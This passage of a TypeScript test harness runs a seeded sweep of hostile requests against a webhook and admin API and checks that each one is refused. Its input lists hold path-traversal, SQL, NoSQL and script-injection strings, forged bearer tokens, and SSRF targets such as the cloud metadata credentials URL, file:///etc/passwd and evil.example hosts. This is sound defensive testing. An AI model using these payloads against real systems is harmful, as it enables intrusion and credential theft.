  let webhookId = headerSafe(String(event.id)) ? String(event.id) : `chaos-${g.nonce}-${g.next()}`;
  let statuses: number[] = [400];
  let outcomes: readonly string[] | undefined;
  if (field.path[0] === 'type') {
    if (typeof value === 'string') {
      statuses = [200];
      outcomes = ['ignored'];
    }
  } else if (field.path[0] === 'id') {
    // Only an unsubscribed type gets past the id check with any id; the header carries it when it can.
    event = { ...event, type: `chaos.${g.nonce}` };
    if (typeof placed === 'string' && placed !== '' && headerSafe(placed)) webhookId = placed;
    statuses = [200];
    outcomes = ['ignored'];
  }
  const where =
    field.path[0] === 'id'
      ? `id of an event of an unsubscribed type`
      : `${field.path.join('.')} of a ${String(event.type).slice(0, 40)} event`;
  return g.clarityProbe(kind, tenant, `${where} = ${describeValue(value)}`, statuses, {
    body: json(event),
    webhookId,
    ...(outcomes && { outcomes }),
  });
}

// ---- shared bad bodies ----------------------------------------------------------------------

type BadBody = [detail: string, body: Buffer | { chunks: Buffer[] }, statuses: readonly number[], headers: Record<string, string>];

function malformedBodies(g: Generator): BadBody[] {
  const text = (value: string): Buffer => Buffer.from(value, 'utf8');
  const depth = 2_000 + Math.floor(g.random() * 8_000);
  return [
    ['an empty body', Buffer.alloc(0), [400], {}],
    ['an unterminated object', text('{"scope":"store/product/updated"'), [400], {}],
    ['single quotes', text("{'scope':'store/order/created'}"), [400], {}],
    ['a trailing comma', text('{"a":1,}'), [400], {}],
    ['NaN', text('NaN'), [400], {}],
    ['two objects', text('{"a":1}{"b":2}'), [400], {}],
    ['a byte-order mark', text('\ufeff{"a":1}'), [400], {}],
    ['invalid UTF-8', Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d]), [400], {}],
    ['null', text('null'), [400], {}],
    ['an array', text('[]'), [400], {}],
    ['a string', text('"store/order/created"'), [400], {}],
    ['a number', text('1e999'), [400], {}],
    [`${depth} nested arrays`, text(`${'['.repeat(depth)}${']'.repeat(depth)}`), [400], {}],
    [`${depth} nested objects`, text(`${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`), [400], {}],
    ['a JSON-looking XML document', text('<?xml version="1.0"?><order><id>1</id></order>'), [400], {}],
    ['an object of the wrong shape', text('{"hello":"world"}'), [400], {}],
    ['gzip declared, not gzip', text('{"a":1}'), [400, 415], { 'content-encoding': 'gzip' }],
    ['an unsupported content encoding', text('{"a":1}'), [400, 415], { 'content-encoding': 'compress' }],
    ['chunked garbage', { chunks: [text('{"sc'), text('ope": [1,'), text('2')] }, [400], {}],
  ];
}

function wrongContentTypes(body: Buffer): Array<[string, string | null, Buffer]> {
  return [
    ['text/plain', 'text/plain', body],
    ['form-urlencoded', 'application/x-www-form-urlencoded', Buffer.from(`payload=${encodeURIComponent(body.toString('utf8'))}`)],
    ['application/xml', 'application/xml', Buffer.from('<?xml version="1.0"?><event><scope>store/order/created</scope></event>')],
    [
      'multipart/form-data',
      'multipart/form-data; boundary=x',
      Buffer.from(`--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n${body.toString('utf8')}\r\n--x--\r\n`),
    ],
    ['text/json', 'text/json', body],
    ['application/vnd.api+json', 'application/vnd.api+json', body],
    ['no content type', null, body],
    ['an unparseable content type', 'application/', body],
    ['application/json in a parameter of another type', 'text/html; x=application/json', body],
  ];
}

function withContentType(probe: Probe, contentType: string | null): Probe {
  return {
    ...probe,
    prepare: (now) => {
      const prepared = probe.prepare(now);
      const { 'content-type': _dropped, ...rest } = prepared.headers;
      return { ...prepared, headers: contentType === null ? rest : { ...rest, 'content-type': contentType } };
    },
  };
}

function oversizedProbe(g: Generator, tenant: TenantSecrets, limit: number): Probe {
  const size = limit + 1 + Math.floor(g.random() * limit * 3);
  const chunked = g.random() < 0.3;
  const padding = 'x'.repeat(size);
  const event: Record<string, unknown> = {
    ...(tenant.storefront === 'bigcommerce' ? g.bigCommerceEnvelope('order') : g.clarityEvent('order.created')),
    padding,
  };
  const raw = json(event);
  const body = chunked ? { chunks: [raw.subarray(0, 1024), raw.subarray(1024)] } : raw;
  const detail = `${raw.length} bytes${chunked ? ', chunked (no length)' : ''}, validly authenticated`;
  if (tenant.storefront === 'bigcommerce')
    return g.bigCommerceProbe('oversized', tenant, detail, [413], { headers: { [bigCommerceSecretHeader]: tenant.secrets.at(-1)! }, body });
  return g.clarityProbe('oversized', tenant, detail, [413], { body, webhookId: String(event.id) });
}

function unknownTenantSegments(g: Generator): Array<[string, string, readonly number[]]> {
  const unknown = pick(g.random, g.unknownTenantIds);
  return [
    ['a tenant that does not exist', unknown, [401]],
    ['a tenant id in upper case', unknown.toUpperCase(), [401]],
    ['path traversal (encoded slashes)', '..%2F..%2Fapi%2Fv1%2Ftenants', [401]],
    ['a NoSQL operator as the tenant', encodeURIComponent('{"$gt":""}'), [401]],
    ['a NUL byte in the tenant', `${unknown}%00`, [401]],
    ['an over-long tenant id', 'a'.repeat(300), [401]],
    ['SQL in the tenant', encodeURIComponent("x' OR '1'='1"), [401]],
    ['script in the tenant', encodeURIComponent('<script>alert(1)</script>'), [401]],
    ['a broken percent-encoding', '%E0%A4%A', [400, 401]],
    ['an extra path segment', `${unknown}/extra`, [404]],
    ['a dot segment', '.', [401, 404]],
  ];
}

// ---- the prime deliveries and their replays --------------------------------------------------

interface Prime {
  tenant: TenantSecrets;
  probe: Probe;
  /** The exact request as sent, for the captured-replay probe. */
  sent?: { headers: Record<string, string>; body: Buffer };
  /** Redeliveries built so far: each gets a timestamp of its own. */
  redeliveries: number;
}

/**
 * A valid delivery that must be accepted, proving the signing; its replays come later: a product
 * update, the event that starts the least (the stock sync of a product or SKU that does not
 * exist) while still being recorded, so its replays prove the deduplication. Whatever it starts
 * is counted before the bad requests and not held against them. (A customer deletion would not do:
 * it starts nothing, so it is acknowledged without being recorded and a replay is not a duplicate.)
 */
/**
 * What a prime is answered: `recorded` when the API hands deliveries to its intake (the fast
 * acknowledgement: the start follows), else what the dispatcher did at once.
 */
const primeOutcomes = ['recorded', 'ignored', 'signalled'] as const;

function primeFor(g: Generator, tenant: TenantSecrets): Prime {
  if (tenant.storefront === 'bigcommerce') {
    const body = json(g.bigCommerceEnvelope('product'));
    return {
      tenant,
      redeliveries: 0,
      probe: g.bigCommerceProbe('control', tenant, 'a valid product update', [200], {
        headers: { [bigCommerceSecretHeader]: tenant.secrets.at(-1)! },
        body,
        outcomes: primeOutcomes,
      }),
    };
  }
  const event = g.clarityEvent('product.updated');
  return {
    tenant,
    redeliveries: 0,
    probe: g.clarityProbe('control', tenant, 'a valid product.updated', [200], {
      body: json(event),
      webhookId: String(event.id),
      outcomes: primeOutcomes,
    }),
  };
}

function replayProbe(g: Generator, prime: Prime): Probe {
  const { tenant, sent } = prime;
  const base = { method: 'POST', path: prime.probe.path };
  if (!sent) throw new Error('a prime must be sent before its replays are built');
  if (tenant.storefront === 'bigcommerce') {
    const secretIndex = Math.floor(g.random() * tenant.secrets.length);
    return {
      ...base,
      kind: 'bigcommerce:replayed',
      detail: 'the same delivery (same hash) again',
      prepare: () => ({ headers: { ...sent.headers, [bigCommerceSecretHeader]: tenant.secrets[secretIndex]! }, body: sent.body }),
      statuses: [200],
      outcomes: ['duplicate'],
    };
  }
  if (g.random() < 0.5) {
    return {
      ...base,
      kind: 'clarity:replayed',
      detail: 'the captured request again, byte for byte (same id and timestamp)',
      prepare: () => ({ headers: sent.headers, body: sent.body }),
      statuses: [401],
    };
  }
  const id = sent.headers['webhook-id']!;
  const secret = tenant.secrets.at(-1)!;
  prime.redeliveries += 1;
  const offset = prime.redeliveries;
  return {
    ...base,
    kind: 'clarity:replayed',
    detail: 'a redelivery: same id and body, new timestamp, signed again',
    prepare: (now) => {
      // Two redeliveries in the same second would be one request played twice (refused, rightly):
      // each gets its own timestamp, a few seconds ahead at most, well inside the tolerance.
      const timestamp = String(Math.max(now, Number(sent.headers['webhook-timestamp'])) + offset);
      return {
        headers: {
          ...sent.headers,
          'webhook-timestamp': timestamp,
          'webhook-signature': standardWebhooksSignature(secret, id, timestamp, sent.body),
        },
        body: sent.body,
      };
    },
    statuses: [200],
    outcomes: ['duplicate'],
  };
}

// ---- admin API ---------------------------------------------------------------------------------

interface AdminKeys {
  /** Tenant-scoped admin key of tenant A. */
  adminA: string;
  /** Tenant-scoped viewer key of tenant A. */
  viewerA: string;
  /** A revoked key. */
  revoked: string;
  /** The id of a key limited to tenant B, when there is a B. */
  otherTenantKeyId: string | undefined;
  /** Tenant-scoped admin key of the sweep's disabled tenant. */
  adminDisabled: string;
  ids: string[];
}

function adminProbe(
  kind: string,
  detail: string,
  method: string,
  path: string,
  statuses: readonly number[],
  options: { key?: string; authorization?: string; body?: Buffer; contentType?: string } = {},
): Probe {
  return {
    kind: `admin:${kind}`,
    detail: `${method} ${path.length > 80 ? `${path.slice(0, 80)}…` : path}: ${detail}`,
    method,
    path: `/api/v1${path}`,
    prepare: () => {
      const headers: Record<string, string> = {};
      if (options.authorization !== undefined) headers.authorization = options.authorization;
      else if (options.key !== undefined) headers.authorization = `Bearer ${options.key}`;
      if (options.body !== undefined) headers['content-type'] = options.contentType ?? 'application/json';
      return { headers, ...(options.body !== undefined && { body: options.body }) };
    },
    statuses,
  };
}

/** Valid requests of every shape, for checking who may send them. */
function adminOperations(tenantId: string, apiUrl: string): Array<{ method: string; path: string; body?: unknown; write: boolean }> {
  const to = new Date(Date.now() - 60_000).toISOString();
  const from = new Date(Date.now() - 86_400_000).toISOString();
  return [
    { method: 'GET', path: `/tenants/${tenantId}`, write: false },
    { method: 'GET', path: `/tenants/${tenantId}/settings`, write: false },
    { method: 'GET', path: `/tenants/${tenantId}/credentials`, write: false },
    { method: 'GET', path: `/tenants/${tenantId}/ledger`, write: false },
    { method: 'GET', path: `/tenants/${tenantId}/attention`, write: false },
    { method: 'GET', path: `/tenants/${tenantId}/audit`, write: false },
    { method: 'GET', path: `/tenants/${tenantId}/mappings/items/export`, write: false },
    { method: 'GET', path: `/tenants/${tenantId}/orders/1001`, write: false },
    { method: 'PATCH', path: `/tenants/${tenantId}`, body: { name: 'renamed by the bad-input sweep' }, write: true },
    { method: 'POST', path: `/tenants/${tenantId}/webhooks/register`, body: { publicBaseUrl: apiUrl }, write: true },
    { method: 'POST', path: `/tenants/${tenantId}/backfill`, body: { from, to }, write: true },
    { method: 'POST', path: `/tenants/${tenantId}/sweep`, write: true },
    { method: 'POST', path: `/tenants/${tenantId}/orders/1001/retry`, write: true },
    { method: 'POST', path: `/tenants/${tenantId}/orders/1001/cancel`, body: { reason: 'bad-input sweep' }, write: true },
    { method: 'POST', path: `/tenants/${tenantId}/orders/1001/resync`, write: true },
    { method: 'POST', path: `/tenants/${tenantId}/refunds/1001/retry`, write: true },
    { method: 'POST', path: `/tenants/${tenantId}/attention/retry`, body: { dryRun: true }, write: true },
    { method: 'PUT', path: `/tenants/${tenantId}/mappings/items/rows/CHAOS-SKU`, body: { intacctItemId: 'X' }, write: true },
    { method: 'DELETE', path: `/tenants/${tenantId}/mappings/items/rows/CHAOS-SKU`, write: true },
  ];
}

interface AdminContext {
  a: string;
  /** Tenant A's storefront: which endpoint setting its connection has. */
  aStorefront: StorefrontKind;
  b: string | undefined;
  /** A tenant the sweep creates and disables. */
  disabled: string;
  keys: AdminKeys;
  apiUrl: string;
  /** Where the steered endpoints point besides well-known targets: a listener that must receive nothing. */
  canaryUrl: string;
  /**
   * Tenant A's settings version when the sweep starts, so a steered endpoint is refused for the
   * endpoint itself (400) and not for a stale version (409): the run's own setup (payouts) may
   * have changed the settings since they were first written.
   */
  aSettingsVersion: number;
}

type AdminGenerator = (g: Generator, context: AdminContext) => Probe | undefined;

/** Endpoints no tenant may point a connection at: off every allow-list, in sandbox mode and production alike. */
function steeredEndpoints(canaryUrl: string, apiUrl: string): string[] {
  return [
    `${canaryUrl}/ia/xml/xmlgw.phtml`,
    canaryUrl.replace('http://', 'https://'),
    'http://127.0.0.1:7233/',
    'http://localhost:8233/api/v1/namespaces',
    `${apiUrl}/api/v1/tenants`,
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'http://[::1]:27017/',
    'https://api.intacct.com.evil.example/ia/xml/xmlgw.phtml',
    'https://evil.example/ia/xml/xmlgw.phtml',
    'https://api.bigcommerce.com@evil.example/',
    'http://0x7f000001/',
    'file:///etc/passwd',
  ];
}

const admin: Record<string, AdminGenerator> = {
  'no-key'(g, { a, apiUrl }) {
    const operation = pick(g.random, [
      ...adminOperations(a, apiUrl),
      { method: 'GET', path: '/tenants', write: false },
      { method: 'POST', path: '/api-keys', body: { name: 'x', role: 'admin', tenantId: null }, write: true },
    ]);
    return adminProbe(
      'no-key',
      'no Authorization header',
      operation.method,
      operation.path,
      [401],
      operation.body === undefined ? {} : { body: json(operation.body) },
    );
  },
  'wrong-key'(g, { a, keys, apiUrl }) {
    const operation = pick(g.random, adminOperations(a, apiUrl));
    const forged = keys.adminA.replace(/.$/, (last) => (last === 'A' ? 'B' : 'A'));
    const variants: Array<[string, string]> = [
      ['an unknown key', `Bearer ${randomBytes(24).toString('base64url')}`],
      [
        'a well-formed ssk_ token that was never issued',
        `Bearer ssk_${randomBytes(8).toString('hex')}_${randomBytes(32).toString('base64url')}`,
      ],
      ["a real key's id with a changed secret", `Bearer ${forged}`],
      ['a revoked key', `Bearer ${keys.revoked}`],
      ['Basic instead of Bearer', `Basic ${Buffer.from(`admin:${keys.adminA}`).toString('base64')}`],
      ['the key without a scheme', keys.adminA],
      ['Bearer and nothing', 'Bearer'],
      ['two tokens', `Bearer ${keys.adminA} ${keys.adminA}`],
      [
        'an injection string as the key',
        `Bearer ${pick(
          g.random,
          injectionStrings.filter((value) => headerSafe(value) && !/\s/.test(value)),
        )}`,
      ],
    ];
    const [detail, authorization] = pick(g.random, variants);
    return adminProbe('wrong-key', detail, operation.method, operation.path, [401], {
      authorization,
      ...(operation.body !== undefined && { body: json(operation.body) }),
    });
  },
  'cross-tenant'(g, { b, keys, apiUrl }) {
    if (b === undefined) return undefined;
    const operation = pick(g.random, [
      ...adminOperations(b, apiUrl),
      { method: 'POST', path: '/api-keys', body: { name: 'cross', role: 'admin', tenantId: b }, write: true },
      ...(keys.otherTenantKeyId ? [{ method: 'DELETE', path: `/api-keys/${keys.otherTenantKeyId}`, write: true }] : []),
    ]);
    // Issuing a key for another tenant is refused before the tenant is looked up (403); everything else is 404.
    const statuses = operation.path === '/api-keys' ? [403] : [404];
    return adminProbe('cross-tenant', `tenant A's admin key on tenant ${b}`, operation.method, operation.path, statuses, {
      key: keys.adminA,
      ...(operation.body !== undefined && { body: json(operation.body) }),
    });
  },
  'insufficient-role'(g, { a, keys, apiUrl }) {
    const operation = pick(g.random, [
      ...adminOperations(a, apiUrl).filter((candidate) => candidate.write),
      { method: 'POST', path: '/api-keys', body: { name: 'escalate', role: 'admin', tenantId: a }, write: true },
    ]);
    return adminProbe('insufficient-role', 'a viewer key on a write', operation.method, operation.path, [403], {
      key: keys.viewerA,
      ...(operation.body !== undefined && { body: json(operation.body) }),
    });
  },
  'malformed-body'(g, { a, keys }) {
    const value = pick(g.random, [...injectionStrings, ...xmlStrings]);
    const operator = pick(
      g.random,
      structuralValues.filter((candidate) => candidate !== null && typeof candidate === 'object'),
    );
    const big = Buffer.from(JSON.stringify({ name: 'x'.repeat(100 * 1024 + Math.floor(g.random() * 100_000)) }));
    const variants: Array<[string, string, string, Buffer, readonly number[], string?]> = [
      ['invalid JSON', 'PATCH', `/tenants/${a}/settings`, Buffer.from('{"version":1,'), [400]],
      ['a JSON array', 'PATCH', `/tenants/${a}/settings`, Buffer.from('[1,2,3]'), [400]],
      [
        'an operator as the settings version',
        'PATCH',
        `/tenants/${a}/settings`,
        json({ version: operator, settings: { timezone: 'UTC' } }),
        [400],
      ],
      [
        `an injection string as a timezone: ${describeValue(value)}`,
        'PATCH',
        `/tenants/${a}/settings`,
        json({ version: 1, settings: { timezone: value } }),
        [400, 409],
      ],
      [
        'an operator as a credential',
        'PUT',
        `/tenants/${a}/credentials/intacct`,
        json({ senderId: operator, senderPassword: operator, userId: 'u', userPassword: 'p' }),
        [400],
      ],
      ['an unknown credential part', 'PUT', `/tenants/${a}/credentials/${percentEncode(value).slice(0, 60) || 'x'}`, json({}), [400, 404]],
      [
        `a publicBaseUrl that is not http(s): ${describeValue(value)}`,
        'POST',
        `/tenants/${a}/webhooks/register`,
        json({ publicBaseUrl: pick(g.random, ['javascript:alert(1)', 'file:///etc/passwd', value, 'ftp://example.com']) }),
        [400],
      ],
      [
        `an injection string as a backfill date: ${describeValue(value)}`,
        'POST',
        `/tenants/${a}/backfill`,
        json({ from: value, to: operator }),
        [400],
      ],
      [
        'a backfill window in the future',
        'POST',
        `/tenants/${a}/backfill`,
        json({ from: '2999-01-01T00:00:00Z', to: '2999-01-02T00:00:00Z' }),
        [400],
      ],
      ['an unknown role', 'POST', '/api-keys', json({ name: value, role: 'root', tenantId: a }), [400]],
      ['an operator as the tenant of a key', 'POST', '/api-keys', json({ name: 'x', role: 'viewer', tenantId: operator }), [400]],
      ['an empty cancel reason', 'POST', `/tenants/${a}/orders/1001/cancel`, json({ reason: '' }), [400]],
      ['a misspelt dry run on a bulk retry', 'POST', `/tenants/${a}/attention/retry`, json({ dryrun: true }), [400]],
      ['a bulk retry over its batch bound', 'POST', `/tenants/${a}/attention/retry`, json({ dryRun: true, limit: 100_000 }), [400]],
      [
        `an injection string as a bulk retry's code: ${describeValue(value)}`,
        'POST',
        `/tenants/${a}/attention/retry`,
        json({ dryRun: true, code: operator, since: value }),
        [400],
      ],
      [
        `an injection string as a tenant id: ${describeValue(value)}`,
        'GET',
        `/tenants/${percentEncode(value).slice(0, 200)}`,
        Buffer.alloc(0),
        [400, 404],
      ],
      [
        `an injection string as an order id: ${describeValue(value)}`,
        'GET',
        `/tenants/${a}/orders/${percentEncode(value).slice(0, 300)}`,
        Buffer.alloc(0),
        [400, 404],
      ],
      [
        'an operator in the query',
        'GET',
        `/tenants/${a}/ledger?externalId[$gt]=&limit=${percentEncode(value).slice(0, 50)}`,
        Buffer.alloc(0),
        [400],
      ],
      ['a broken percent-encoding in the path', 'GET', `/tenants/${a}/mappings/%E0%A4%A`, Buffer.alloc(0), [400, 404]],
      ['over 100 kB', 'PATCH', `/tenants/${a}`, big, [413]],
      ['text/plain', 'PATCH', `/tenants/${a}`, json({ name: 'x' }), [415], 'text/plain'],
      [
        'application/xml',
        'PUT',
        `/tenants/${a}/credentials/intacct`,
        Buffer.from('<credentials><senderId>x</senderId></credentials>'),
        [415],
        'application/xml',
      ],
      ['form-urlencoded', 'POST', '/api-keys', Buffer.from('name=x&role=admin&tenantId='), [415], 'application/x-www-form-urlencoded'],
      ['a CSV import that is JSON', 'POST', `/tenants/${a}/mappings/items/import`, json({ rows: [] }), [400, 415]],
    ];
    const [detail, method, path, body, statuses, contentType] = pick(g.random, variants);
    return adminProbe('malformed-body', detail, method, path, statuses, {
      key: keys.adminA,
      ...(body.length > 0 && { body }),
      ...(contentType !== undefined && { contentType }),
    });
  },
  'steered-endpoint'(g, { a, aStorefront, keys, apiUrl, canaryUrl, aSettingsVersion }) {
    const url = pick(g.random, steeredEndpoints(canaryUrl, apiUrl));
    const storefrontSetting = aStorefront === 'bigcommerce' ? 'apiBaseUrl' : 'baseUrl';
    const [setting, connection] = pick(g.random, [
      ['connection.intacct.endpointUrl', { intacct: { endpointUrl: url } }],
      [`connection.storefront.${storefrontSetting}`, { storefront: { [storefrontSetting]: url } }],
    ] as const);
    const probe = adminProbe('steered-endpoint', `${setting} set to ${url}`, 'PATCH', `/tenants/${a}/settings`, [400], {
      key: keys.adminA,
      body: json({ version: aSettingsVersion, settings: { connection } }),
    });
    return { ...probe, names: setting };
  },
  'disabled-tenant'(g, { disabled, keys, apiUrl }) {
    const operation = pick(g.random, [
      ...adminOperations(disabled, apiUrl).filter((candidate) => candidate.write),
      { method: 'PATCH', path: `/tenants/${disabled}`, body: { status: 'active' }, write: true },
      {
        method: 'PUT',
        path: `/tenants/${disabled}/credentials/intacct`,
        body: { senderId: 's', senderPassword: 'p', userId: 'u', userPassword: 'p' },
        write: true,
      },
      { method: 'POST', path: '/api-keys', body: { name: 'while disabled', role: 'admin', tenantId: disabled }, write: true },
    ]);
    const probe = adminProbe('disabled-tenant', "the disabled tenant's own admin key on a write", operation.method, operation.path, [403], {
      key: keys.adminDisabled,
      ...(operation.body !== undefined && { body: json(operation.body) }),
    });
    return { ...probe, errorCode: 'tenant_disabled' };
  },
};

// ---- sending -----------------------------------------------------------------------------------

interface Answer {
  status: number;
  body: unknown;
  error?: string;
}

async function send(apiUrl: string, probe: Probe): Promise<Answer> {
  const prepared = probe.prepare(Math.floor(Date.now() / 1000));
  let body: Uint8Array | ReadableStream<Uint8Array> | undefined;
  let duplex: 'half' | undefined;
  if (prepared.body !== undefined) {
    if (Buffer.isBuffer(prepared.body)) {
      body = new Uint8Array(prepared.body);
    } else {
      const chunks = prepared.body.chunks;
      body = new ReadableStream<Uint8Array>({
        start(controller) {
          for (const chunk of chunks) controller.enqueue(new Uint8Array(chunk));
          controller.close();
        },
      });
      duplex = 'half';
    }
  }
  try {
    const response = await fetch(`${apiUrl}${probe.path}`, {
      method: probe.method,
      headers: prepared.headers,
      ...(body !== undefined && { body }),
      ...(duplex && { duplex }),
      signal: AbortSignal.timeout(30_000),
    });
    const text = await response.text();
    let parsed: unknown;
    try {
      parsed = text ? (JSON.parse(text) as unknown) : undefined;
    } catch {
      parsed = text.slice(0, 200);
    }
    return { status: response.status, body: parsed };
  } catch (error) {
    return {
      status: 0,
      body: undefined,
      error: error instanceof Error ? `${error.name}: ${(error.cause as Error | undefined)?.message ?? error.message}` : String(error),
    };
  }
}

/** What is wrong with an answer for its probe, or undefined when it is as expected. */
function judge(probe: Probe, answer: Answer): string | undefined {
  if (answer.status === 0) return `no answer: ${answer.error ?? 'unknown error'}`;
  if (!probe.statuses.includes(answer.status))
    return `expected ${probe.statuses.join('/')}, got ${answer.status} ${JSON.stringify(answer.body)?.slice(0, 200)}`;
  const body = answer.body as { error?: { code?: unknown; message?: unknown }; outcome?: unknown } | undefined;
  if (answer.status >= 400) {
    if (typeof body?.error?.code !== 'string' || typeof body.error.message !== 'string')
      return `a ${answer.status} without a reason: ${JSON.stringify(answer.body)?.slice(0, 200)}`;
    if (probe.errorCode !== undefined && body.error.code !== probe.errorCode)
      return `expected error ${probe.errorCode}, got ${body.error.code}: ${body.error.message.slice(0, 200)}`;
    if (probe.names !== undefined && !JSON.stringify(answer.body).includes(probe.names))
      return `the refusal does not name ${probe.names}: ${JSON.stringify(answer.body)?.slice(0, 200)}`;
    return undefined;
  }
  if (probe.outcomes && !probe.outcomes.includes(String(body?.outcome)))
    return `expected outcome ${probe.outcomes.join('/')}, got ${JSON.stringify(answer.body)}`;
  return undefined;
}

/**
 * A listener on a free local port that counts the connections made to it: any connection is
 * the product trying to send a tenant's credentials where the tenant pointed it (a TLS hello
 * to this plain listener counts too).
 */
async function startCanaryListener(): Promise<{ url: string; close: () => Promise<number> }> {
  let connections = 0;
  const server = createServer((request, response) => {
    request.resume();
    response.writeHead(404).end();
  });
  server.on('connection', () => (connections += 1));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    close: async () => {
      server.closeAllConnections();
      await new Promise<void>((resolve) => server.close(() => resolve()));
      return connections;
    },
  };
}

async function inBatches<T>(items: readonly T[], concurrency: number, work: (item: T) => Promise<void>): Promise<void> {
  let nextIndex = 0;
  const lanes = Array.from({ length: Math.min(concurrency, items.length) }, async () => {
    while (nextIndex < items.length) {
      const item = items[nextIndex]!;
      nextIndex += 1;
      await work(item);
    }
  });
  await Promise.all(lanes);
}

const quote = (value: string) => `"${value.replaceAll('\\', '\\\\').replaceAll('"', '\\"')}"`;

/**
 * Runs (workflow id and run id) of these tenants started at or after `since`, from visibility.
 * Visibility is eventually consistent: reads until at least `atLeast` are listed (or 15 s
 * pass), then until two reads half a second apart agree.
 */
async function startedRuns(client: Client, tenantIds: readonly string[], since: Date, atLeast: number): Promise<Set<string>> {
  const query = `(${tenantIds.map((id) => `TenantId = ${quote(id)}`).join(' OR ')}) AND StartTime >= ${quote(since.toISOString())}`;
  const read = async () => {
    const runs = new Set<string>();
    for await (const execution of client.workflow.list({ query })) runs.add(`${execution.workflowId} ${execution.runId}`);
    return runs;
  };
  const deadline = Date.now() + 15_000;
  let previous: Set<string> | undefined;
  for (;;) {
    await new Promise((resolve) => setTimeout(resolve, previous === undefined ? 1_000 : 500));
    const runs = await read();
    const stable = previous !== undefined && previous.size === runs.size;
    if ((runs.size >= atLeast && stable) || Date.now() > deadline) return runs;
    previous = runs;
  }
}

/**
 * Runs the sweep: control and prime deliveries first (they must be accepted, proving the
 * signing), then `requests` bad requests in a seeded mix of every kind, a few at a time, then
 * reads Temporal's visibility for workflows started for the sweep's tenants.
 */
export async function runBadInputSweep(options: BadInputSweepOptions): Promise<BadInputReport> {
  const requests = options.requests ?? 500;
  const random = seededRandom(options.seed);
  const startedAt = new Date(Date.now() - 1_000);
  const nonce = randomBytes(4).toString('hex');

  const tenants: TenantSecrets[] = [];
  for (const tenant of options.tenants) {
    const webhook = await loadCredentials(options.db, options.cipher, tenant.tenantId, 'webhook');
    if (!webhook || webhook.secrets.length === 0)
      throw new Error(`tenant ${tenant.tenantId} has no webhook secret: register its webhooks before the sweep`);
    tenants.push({ ...tenant, secrets: webhook.secrets.map((entry) => entry.secret) });
  }
  if (tenants.length === 0) throw new Error('the sweep needs at least one tenant');
  const unknownTenantIds = [1, 2, 3].map((n) => `chaos-unknown-${nonce}-${n}`);
  const g = new Generator(tenants, random, nonce, unknownTenantIds);

  const [tenantA, tenantB] = tenants;
  // A tenant of the sweep's own, disabled the way an installation-wide admin would.
  const disabledTenantId = `chaos-disabled-${nonce}`;
  await createTenant(options.db, { id: disabledTenantId, name: 'bad-input sweep disabled tenant', storefront: tenantA!.storefront });
  await updateTenant(options.db, disabledTenantId, { status: 'disabled' });
  const canary = await startCanaryListener();
  const issued = await Promise.all([
    issueApiKey(options.db, { name: 'bad-input sweep admin', role: 'admin', tenantId: tenantA!.tenantId, createdBy: 'bad-input-sweep' }),
    issueApiKey(options.db, { name: 'bad-input sweep viewer', role: 'viewer', tenantId: tenantA!.tenantId, createdBy: 'bad-input-sweep' }),
    issueApiKey(options.db, { name: 'bad-input sweep revoked', role: 'admin', tenantId: null, createdBy: 'bad-input-sweep' }),
    issueApiKey(options.db, {
      name: 'bad-input sweep disabled admin',
      role: 'admin',
      tenantId: disabledTenantId,
      createdBy: 'bad-input-sweep',
    }),
    ...(tenantB
      ? [
          issueApiKey(options.db, {
            name: 'bad-input sweep tenant B viewer',
            role: 'viewer',
            tenantId: tenantB.tenantId,
            createdBy: 'bad-input-sweep',
          }),
        ]
      : []),
  ]);
  await revokeApiKey(options.db, issued[2].record._id, {});
  const keys: AdminKeys = {
    adminA: issued[0].token,
    viewerA: issued[1].token,
    revoked: issued[2].token,
    adminDisabled: issued[3].token,
    otherTenantKeyId: issued[4]?.record._id,
    ids: issued.map((key) => key.record._id),
  };

  const report: BadInputReport = {
    sent: 0,
    byStatus: {},
    byKind: {},
    serverErrors: 0,
    workflowsStarted: 0,
    controlWorkflows: 0,
    steeredRequestsReceived: 0,
    unexpected: [],
    expected: {
      ...Object.fromEntries(
        [...new Set(tenants.map((tenant) => tenant.storefront))].flatMap((storefront) =>
          Object.entries(webhookKindExpectations)
            .filter(([kind]) => kind === 'control' || kind in (storefront === 'bigcommerce' ? bigCommerce : clarity))
            .map(([kind, text]) => [`${storefront}:${kind}`, text]),
        ),
      ),
      ...Object.fromEntries(Object.entries(adminKindExpectations).map(([kind, text]) => [`admin:${kind}`, text])),
    },
  };
  let dispatched = 0;
  let primeDispatches = 0;
  let runsAfterPrimes = new Set<string>();
  const countedTenants = [...tenants.map((tenant) => tenant.tenantId), ...unknownTenantIds, disabledTenantId];
  const record = (probe: Probe, answer: Answer) => {
    report.sent += 1;
    const status = String(answer.status);
    report.byStatus[status] = (report.byStatus[status] ?? 0) + 1;
    const byKind = (report.byKind[probe.kind] ??= {});
    byKind[status] = (byKind[status] ?? 0) + 1;
    if (answer.status >= 500) report.serverErrors += 1;
    const outcome = (answer.body as { outcome?: unknown } | undefined)?.outcome;
    if (answer.status < 300 && (outcome === 'signalled' || outcome === 'started')) dispatched += 1;
    const problem = judge(probe, answer);
    if (problem !== undefined)
      report.unexpected.push({
        kind: probe.kind,
        status: answer.status,
        detail: `${probe.method} ${probe.path.split('?')[0]!.slice(0, 120)} (${probe.detail}): ${problem}`,
      });
  };

  try {
    // Controls: valid deliveries that must be accepted, kept for the replay probes.
    const primes: Prime[] = tenants.flatMap((tenant) => [primeFor(g, tenant), primeFor(g, tenant)]);
    for (const prime of primes) {
      const prepared = prime.probe.prepare(Math.floor(Date.now() / 1000));
      const body = Buffer.isBuffer(prepared.body) ? prepared.body : Buffer.alloc(0);
      prime.sent = { headers: prepared.headers, body };
      const fixed: Probe = { ...prime.probe, prepare: () => prepared };
      const answer = await send(options.apiUrl, fixed);
      record(fixed, answer);
      if ((answer.body as { outcome?: unknown } | undefined)?.outcome === 'signalled') primeDispatches += 1;
    }
    dispatched = 0;
    // What the primes started is theirs: only runs that appear after this are held against the bad requests.
    if (options.client) runsAfterPrimes = await startedRuns(options.client, countedTenants, startedAt, primeDispatches);
    const adminControl = adminProbe('control', "tenant A's own key on its tenant", 'GET', `/tenants/${tenantA!.tenantId}`, [200], {
      key: keys.adminA,
    });
    record(adminControl, await send(options.apiUrl, adminControl));

    const slots: Array<() => Probe | undefined> = [];
